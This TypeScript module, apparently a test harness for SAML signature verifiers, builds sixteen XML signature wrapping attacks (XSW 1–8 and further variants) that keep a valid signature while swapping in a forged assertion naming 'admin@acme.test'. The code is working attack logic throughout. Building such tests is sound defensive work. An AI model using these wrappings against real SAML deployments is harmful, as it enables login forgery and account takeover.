import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

/** A signed message as a tree, with what attackers move about. */
export interface Message {
  document: Document;
  response: Element;
  assertion: Element;
  /** The signature of the response or of the assertion. */
  signature: Element;
}

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';

/** Whom the attacker wants to be. */
export const EVIL = 'admin@acme.test';

/**
 * @param xml a signed response
 * @returns its tree and parts
 */
export function open(xml: string): Message {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const one = (uri: string, local: string) => document.getElementsByTagNameNS(uri, local)[0] as Element;
  return {
    document,
    response: document.documentElement as Element,
    assertion: one(SAML, 'Assertion'),
    signature: one(DS, 'Signature'),
  };
}

export function write({ document }: Message): string {
  return new XMLSerializer().serializeToString(document);
}

/** Everyone in the element becomes the attacker. */
export function corrupt(element: Element): Element {
  for (const local of ['NameID', 'AttributeValue']) {
    for (const one of [...element.getElementsByTagNameNS(SAML, local)]) {
      if (one.textContent?.includes('@')) one.textContent = EVIL;
    }
  }
  return element;
}

function copy(element: Element): Element {
  return element.cloneNode(true) as Element;
}

function bare(element: Element): Element {
  const clone = copy(element);
  for (const child of [...clone.childNodes]) {
    if (child.nodeName === 'ds:Signature') clone.removeChild(child);
  }
  return clone;
}

function evil(element: Element, id = '_evil'): Element {
  const clone = corrupt(bare(element));
  clone.setAttribute('ID', id);
  return clone;
}

function object({ document, signature }: Message, content: Element): void {
  const holder = document.createElementNS(DS, 'ds:Object');
  holder.appendChild(content);
  signature.appendChild(holder);
}

/**
 * Signature wrapping in the eight classical ways (Somorovsky et al., 2012) and some more: the signature still fits
 * what it refers to, but another element stands where one would read. `signed` says what must be signed for it.
 */
export const WRAPPINGS: { name: string; signed: 'response' | 'assertion'; apply(message: Message): void }[] =
  [
    {
      name: 'XSW 1: the signed response inside the signature of a new one',
      signed: 'response',
      apply({ response, signature }) {
        const original = bare(response);
        corrupt(response).setAttribute('ID', '_evil');
        signature.appendChild(original);
      },
    },
    {
      name: 'XSW 2: the signed response beside its signature in a new one',
      signed: 'response',
      apply({ response, signature }) {
        const original = bare(response);
        corrupt(response).setAttribute('ID', '_evil');
        response.insertBefore(original, signature);
      },
    },
    {
      name: 'XSW 3: a new assertion in front of the signed one',
      signed: 'assertion',
      apply: ({ response, assertion }) => void response.insertBefore(evil(assertion), assertion),
    },
    {
      name: 'XSW 4: a new assertion around the signed one',
      signed: 'assertion',
      apply({ response, assertion }) {
        const outer = evil(assertion);
        response.replaceChild(outer, assertion);
        outer.appendChild(assertion);
      },
    },
    {
      name: 'XSW 5: a new assertion with the signature, the signed one behind',
      signed: 'assertion',
      apply({ response, assertion }) {
        const original = bare(assertion);
        corrupt(assertion).setAttribute('ID', '_evil');
        response.appendChild(original);
      },
    },
    {
      name: 'XSW 6: a new assertion with the signature, the signed one in it',
      signed: 'assertion',
      apply({ assertion, signature }) {
        const original = bare(assertion);
        corrupt(assertion).setAttribute('ID', '_evil');
        signature.appendChild(original);
      },
    },
    {
      name: 'XSW 7: a new assertion in Extensions',
      signed: 'assertion',
      apply({ document, response, assertion }) {
        const extensions = document.createElementNS(SAMLP, 'samlp:Extensions');
        extensions.appendChild(evil(assertion));
        response.insertBefore(extensions, assertion);
      },
    },
    {
      name: 'XSW 8: the signed assertion in an Object of the signature',
      signed: 'assertion',
      apply(message) {
        const original = bare(message.assertion);
        corrupt(message.assertion).setAttribute('ID', '_evil');
        object(message, original);
      },
    },
    {
      name: 'the same ID twice, the new assertion first',
      signed: 'assertion',
      apply({ response, assertion }) {
        response.insertBefore(evil(assertion, assertion.getAttribute('ID') as string), assertion);
      },
    },
    {
      name: 'the signed assertion as Advice of a new one',
      signed: 'assertion',
      apply({ document, response, assertion }) {
        const outer = evil(assertion);
        const advice = document.createElementNS(SAML, 'saml:Advice');
        response.replaceChild(outer, assertion);
        advice.appendChild(assertion);
        outer.appendChild(advice);
      },
    },
    {
      name: 'a new assertion in another namespace prefix in front',
      signed: 'assertion',
      apply({ response, assertion }) {
        const other = evil(assertion);
        other.prefix = 'a';
        other.setAttributeNS('http://www.w3.org/2000/xmlns/', 'xmlns:a', SAML);
        response.insertBefore(other, assertion);
      },
    },
    {
      name: 'the ID of the signed element on an envelope by xml:id',
      signed: 'assertion',
      apply({ response, assertion }) {
        response.setAttributeNS(
          'http://www.w3.org/XML/1998/namespace',
          'xml:id',
          assertion.getAttribute('ID') as string,
        );
      },
    },
    {
      name: 'the ID of the signed element in lower case on an envelope',
      signed: 'assertion',
      apply: ({ response, assertion }) => response.setAttribute('Id', assertion.getAttribute('ID') as string),
    },
    {
      name: 'the signature of the assertion moved to the response',
      signed: 'assertion',
      apply({ response, assertion, signature }) {
        assertion.removeChild(signature);
        corrupt(assertion);
        response.appendChild(signature);
      },
    },
    {
      name: 'the signature under the issuer',
      signed: 'assertion',
      apply({ assertion, signature }) {
        assertion.removeChild(signature);
        assertion.getElementsByTagNameNS(SAML, 'Issuer')[0]?.appendChild(signature);
      },
    },
    {
      name: 'a second signature beside the first',
      signed: 'assertion',
      apply: ({ assertion, signature }) => void assertion.appendChild(copy(signature)),
    },
  ];
